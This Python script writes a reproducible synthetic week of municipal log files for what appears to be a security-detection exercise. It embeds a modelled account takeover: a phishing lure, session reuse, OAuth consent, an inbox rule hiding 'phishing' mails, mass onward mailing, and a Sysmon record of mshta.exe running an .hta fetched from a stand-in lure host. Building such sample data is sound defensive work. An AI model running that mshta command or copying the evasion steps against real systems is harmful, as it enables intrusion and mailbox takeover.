#!/usr/bin/env python3
"""Writes a made-up week of one municipality's logs with one taken account in it: the sample that ./run shows.

usage: tools/make_sample.py FOLDER [--events N] [--quiet] [--seed N] [--until TIME] [--case-at TIME] [--last SECONDS]
  --events   quiet events around the case, default 20,000
  --quiet    without the case
  --seed     another week of the same kind
  --case-at  the case begins then
  --last     all of it within so many seconds before --until
  --until    the week ends then ("2026-01-05T12:00:00Z"); without it, it is the one of October 2024

Everything is invented: example domains, addresses reserved for documentation, names of nobody. The same command writes
the same bytes. The case, modelled on what municipalities met in autumn 2024: a mail from a neighbour's taken mailbox leads
to a page that passes a sign-in on (adversary in the middle); the session comes back from another network, consents to an
app, hides its traces with an inbox rule and sends the same mail to others; one recipient runs what the page offers.
"""
import argparse
import datetime
import json
import pathlib
import random
import sys

HOME, NEIGHBOUR = "lyngby-eksempel.example.org", "nabo.example.org"
LURE_HOST = "deling-dokument.example.net"
LURE = f"https://{LURE_HOST}/s/8f3a91c2/aabn"
THEIR_ADDRESS = "203.0.113.77"
TOOL_SHA256 = "5f2b7c1e9d3a4860b1c2d3e4f5a60718293a4b5c6d7e8f9001122334455667a8"
VICTIM = f"anna.holm@{HOME}"
START = datetime.datetime(2024, 10, 7, 5, 0, tzinfo=datetime.timezone.utc)
CASE = START + datetime.timedelta(days=2, hours=3, minutes=12)  # a Wednesday, 08:12 UTC
APPS = {"Office 365 Exchange Online": "00000002-0000-0ff1-ce00-000000000000", "OfficeHome": "4765445b-32c6-49b0-83e6-1d93765276ca"}
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36 Edg/129.0.0.0"


def iso(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


class Sample:
    def __init__(self, seed):
        self.random = random.Random(seed)
        self.lines = {}  # file -> [(time, line)]
        self.people = [f"{a}.{b}@{HOME}" for a in ("bo", "eva", "ida", "jens", "kari", "lars", "mona", "nils", "oda", "per")
                       for b in ("berg", "dahl", "friis", "krog", "lund", "moe", "vik")] + [VICTIM]

    def add(self, file, t, record):
        line = record if isinstance(record, str) else json.dumps(record, ensure_ascii=False, separators=(",", ":"))
        self.lines.setdefault(file, []).append((t, line))

    def id(self):
        return "%08x-%04x-4%03x-8%03x-%012x" % tuple(self.random.getrandbits(n) for n in (32, 16, 12, 12, 48))

    def sign_in(self, t, who, address, agent, device, app="Office 365 Exchange Online", session=None):
        self.add("entra_signin.ndjson", t, {
            "id": self.id(), "createdDateTime": iso(t), "userPrincipalName": who, "userDisplayName": who.split("@")[0].replace(".", " ").title(),
            "appDisplayName": app, "appId": APPS[app], "sessionId": session or self.id(), "ipAddress": address, "clientAppUsed": "Browser",
            "userAgent": agent, "isInteractive": True, "conditionalAccessStatus": "success", "riskLevelDuringSignIn": "none",
            "status": {"errorCode": 0, "failureReason": "Other."},
            "deviceDetail": {"deviceId": device, "operatingSystem": "Windows10", "isManaged": bool(device), "isCompliant": bool(device)},
            "location": {"city": "Eksempelby", "countryOrRegion": "DK"}})

    def audit(self, t, who, operation, workload, address, **more):
        self.add("m365_audit.ndjson", t, {
            "CreationTime": t.strftime("%Y-%m-%dT%H:%M:%S"), "Id": self.id(), "Operation": operation, "OrganizationId": "6f1e2d3c-0000-4000-8000-00000000aaaa",
            "RecordType": {"Exchange": 1, "AzureActiveDirectory": 8, "SharePoint": 6}[workload], "ResultStatus": "Success", "UserKey": who,
            "UserType": 0, "Version": 1, "Workload": workload, "ClientIP": address, "UserId": who, **more})

    def mail(self, t, sender, recipient, subject, address, status="Delivered"):
        self.add("message_trace.ndjson", t, {
            "Organization": HOME, "MessageId": f"<{self.random.getrandbits(64):x}@{sender.split('@')[1]}>", "Received": t.strftime("%Y-%m-%dT%H:%M:%S.%f"),
            "SenderAddress": sender, "RecipientAddress": recipient, "Subject": subject, "Status": status, "ToIP": None, "FromIP": address,
            "Size": self.random.randrange(4000, 90000), "MessageTraceId": self.id()})

    def process(self, t, computer, who, image, command, parent, sha256):
        self.add("windows_sysmon.ndjson", t, {"Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1, "Version": 5, "Level": 4,
                       "TimeCreated": {"#attributes": {"SystemTime": iso(t)}}, "EventRecordID": self.random.randrange(10**6),
                       "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": f"{computer}.{HOME}"},
            "EventData": {"UtcTime": iso(t), "ProcessId": self.random.randrange(1000, 30000), "Image": image, "CommandLine": command,
                          "User": "LYNGBY\\" + who.split("@")[0], "Hashes": f"SHA256={sha256.upper()}", "ParentImage": parent}}})

    def dns(self, t, client, query, answer):
        self.add("zeek_dns.ndjson", t, {
            "_path": "dns", "ts": iso(t), "uid": f"C{self.random.getrandbits(60):x}", "id.orig_h": client, "id.orig_p": self.random.randrange(1024, 65535),
            "id.resp_h": "192.0.2.53", "id.resp_p": 53, "proto": "udp", "query": query, "qtype_name": "A", "rcode_name": "NOERROR", "answers": [answer]})

    def relay(self, t, sender, recipient, host, address):
        queue = f"{self.random.getrandbits(40):010X}"
        stamp = t.strftime("%b %d %H:%M:%S") if t.day > 9 else t.strftime("%b  ") + str(t.day) + t.strftime(" %H:%M:%S")
        for line in (f"postfix/smtpd[{self.random.randrange(900, 9000)}]: {queue}: client={host}[{address}]",
                     f"postfix/qmgr[901]: {queue}: from=<{sender}>, size={self.random.randrange(2000, 60000)}, nrcpt=1 (queue active)",
                     f"postfix/smtp[3105]: {queue}: to=<{recipient}>, relay=exch.{HOME}[192.0.2.40]:25, delay=0.6, dsn=2.0.0, status=sent (250 2.6.0 queued)"):
            self.add("mail.log", t, f"{stamp} mx1 {line}")

    def quiet(self, count, last=None):
        pick = self.random.choice
        hosts = ["www.example.com", "intranet." + HOME, "kort.example.org", "vejr.example.com", "skole.example.org", "journal." + HOME]
        programs = [("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WINWORD.EXE /n"), ("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs"),
                    ("C:\\Program Files\\Microsoft\\Edge\\msedge.exe", "msedge.exe --type=renderer"), ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe")]
        for _ in range(count):
            t = START + datetime.timedelta(days=self.random.randrange(5), seconds=self.random.randrange(12 * 3600), milliseconds=self.random.randrange(1000))
            if last:
                t = START + datetime.timedelta(days=4, hours=12) - datetime.timedelta(seconds=self.random.random() * last)
            who, kind, pc = pick(self.people), self.random.random(), self.random.randrange(10, 200)
            if kind < 0.15:
                self.sign_in(t, who, "198.51.100.10", BROWSER, f"device-{pc}")
            elif kind < 0.35:
                self.audit(t, who, pick(["FileAccessed", "FileModified", "FilePreviewed"]), "SharePoint", "198.51.100.10",
                           SourceFileName=pick(["budget.xlsx", "referat.docx", "plan.pdf"]), SiteUrl=f"https://deling.{HOME}/sites/teknik/")
            elif kind < 0.5:
                self.mail(t, who, pick([f"post@{NEIGHBOUR}", pick(self.people), "post@leverandor.example.com"]), pick(["Referat", "Møde torsdag", "Sv: Byggesag", "Ferieplan"]), "198.51.100.10")
            elif kind < 0.75:
                image, command = pick(programs)
                self.process(t, f"pc-{pc}", who, image, command, "C:\\Windows\\explorer.exe", f"{self.random.getrandbits(256):064x}")
            elif kind < 0.95:
                self.dns(t, f"10.4.0.{pc}", pick(hosts), f"192.0.2.{self.random.randrange(60, 250)}")
            else:
                self.relay(t, f"nyhedsbrev@{pick(['example.com', 'example.org'])}", who, "mail.example.com", "198.51.100.25")

    def case(self):
        t = CASE
        step = lambda **by: t + datetime.timedelta(**by)  # noqa: E731
        self.relay(t, f"ole.strand@{NEIGHBOUR}", VICTIM, f"mail.{NEIGHBOUR}", "198.51.100.77")
        self.mail(step(seconds=4), f"ole.strand@{NEIGHBOUR}", VICTIM, "Ole Strand har delt «Budget 2025» med dig", "198.51.100.77")
        self.dns(step(minutes=3), "10.4.0.31", LURE_HOST, THEIR_ADDRESS)
        session = self.id()
        self.sign_in(step(minutes=4), VICTIM, THEIR_ADDRESS, BROWSER, "", "OfficeHome", session)
        self.sign_in(step(minutes=7), VICTIM, "203.0.113.140", "axios/1.7.7", "", "OfficeHome", session)
        self.audit(step(minutes=9), VICTIM, "Consent to application.", "AzureActiveDirectory", THEIR_ADDRESS, ObjectId="mail-helper", SessionId=session,
                   ModifiedProperties=[{"Name": "ConsentAction.Permissions", "NewValue": "Scope: Mail.ReadWrite Mail.Send offline_access"}])
        self.audit(step(minutes=14), VICTIM, "New-InboxRule", "Exchange", THEIR_ADDRESS + ":50122", ObjectId=VICTIM, SessionId=session,
                   Parameters=[{"Name": "Name", "Value": ".."}, {"Name": "SubjectContainsWords", "Value": "hacket;phishing;delt"}, {"Name": "DeleteMessage", "Value": "True"}])
        for i in range(40):
            self.mail(step(minutes=31, seconds=9 * i), VICTIM, f"modtager{i:02d}@" + (NEIGHBOUR if i % 3 else "fjord-eksempel.example.org"),
                      "Anna Holm har delt «Budget 2025» med dig", THEIR_ADDRESS)
        self.dns(step(minutes=44), "10.4.0.58", LURE_HOST, THEIR_ADDRESS)
        self.process(step(minutes=46), "pc-58", f"per.vik@{HOME}", "C:\\Windows\\System32\\mshta.exe", f"mshta.exe {LURE}.hta",
                     "C:\\Program Files\\Microsoft\\Edge\\msedge.exe", TOOL_SHA256)


def main(arguments):
    global START, CASE
    reader = argparse.ArgumentParser(usage=__doc__)
    reader.add_argument("folder", type=pathlib.Path)
    reader.add_argument("--events", type=int, default=20000)
    reader.add_argument("--quiet", action="store_true")
    reader.add_argument("--seed", type=int, default=20241009)
    reader.add_argument("--case-at", type=lambda text: datetime.datetime.fromisoformat(text.replace("Z", "+00:00")))
    reader.add_argument("--last", type=float)
    reader.add_argument("--until", type=lambda text: datetime.datetime.fromisoformat(text.replace("Z", "+00:00")))
    options = reader.parse_args(arguments)
    if options.until:
        START = options.until - datetime.timedelta(days=4, hours=12)
        CASE = START + datetime.timedelta(days=2, hours=3, minutes=12)
    CASE = options.case_at or CASE
    options.folder.mkdir(parents=True, exist_ok=True)
    sample = Sample(options.seed)
    sample.quiet(options.events, options.last)
    if not options.quiet:
        sample.case()
    order = [(t, name, line) for name, lines in sample.lines.items() for t, line in lines]
    order.sort(key=lambda each: each[0])
    if options.case_at:  # for who appends it to logs that are followed: file and line, as they happened
        (options.folder / "order.tsv").write_text("".join(f"{name}\t{line}\n" for _, name, line in order), encoding="utf-8")
    for name, lines in sorted(sample.lines.items()):
        lines.sort(key=lambda pair: pair[0])
        (options.folder / name).write_text("".join(line + "\n" for _, line in lines), encoding="utf-8")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
